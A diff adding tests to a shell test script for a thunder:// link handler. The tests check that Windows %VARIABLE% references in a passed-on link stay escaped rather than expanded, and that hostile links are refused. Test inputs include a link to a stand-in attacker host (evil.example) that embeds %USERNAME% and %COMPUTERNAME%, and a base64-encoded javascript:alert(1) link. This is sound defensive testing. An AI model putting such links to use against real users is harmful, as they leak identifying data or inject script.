@@ -90,6 +90,16 @@ handed() {
 
 hand_each_kind handed
 
+# ShellExecute puts the environment's "%NAME%" into the address it is given, as an address
+# started directly shows; a link's address reaches the program with nothing expanded, and
+# escapes that were there arrive as they were.
+export ZENTROVA_PLANTED=planted BADC0DE=planted
+thunder_of() { printf 'thunder://%s' "$(printf 'AA%sZZ' "$1" | base64 -w0)"; }
+handed 'http://h/?v=%ZENTROVA_PLANTED%' browser 'http://h/?v=planted'
+handed "$(thunder_of 'http://evil.example/?u=%USERNAME%&h=%COMPUTERNAME%&v=%ZENTROVA_PLANTED%')" \
+  browser 'http://evil.example/?u=%25USERNAME%25&h=%25COMPUTERNAME%25&v=%25ZENTROVA_PLANTED%25'
+handed "$(thunder_of 'http://h/%E4%B8%AD%20a.mkv?q=50%')" browser 'http://h/%E4%B8%AD%20a.mkv?q=50%25'
+
 # refused HOW LINK [REASON]: LINK, through the system (HOW "start", as `wine start` opens it) or
 # given to the program itself (HOW "direct", where its standard error is seen), shows the box
 # titled Zentrova; once it is closed the program has ended with status 1, said REASON on
@@ -129,6 +139,10 @@ refused() {
 
 refused start 'thunder://QUFqYXZhc2NyaXB0OmFsZXJ0KDEpWlo='
 refuse_each_kind refused direct
+# An escape that begins the name of a variable that is set ("%BA" of "%BADC0DE%") cannot be
+# written otherwise: refused, through the system and directly, with the name.
+refused start "$(thunder_of 'http://evil.example/%BADC0DE%')"
+refused direct "$(thunder_of 'http://evil.example/%BADC0DE%')" '含有 %BADC0DE%'
 # An http handler that is this program again: one refusal, no loop.
 register http "$handler" || fail "http could not be given to the handler: $(command_of http)"
 refused onward 'qqdl://aHR0cDovL2gvYS56aXA='
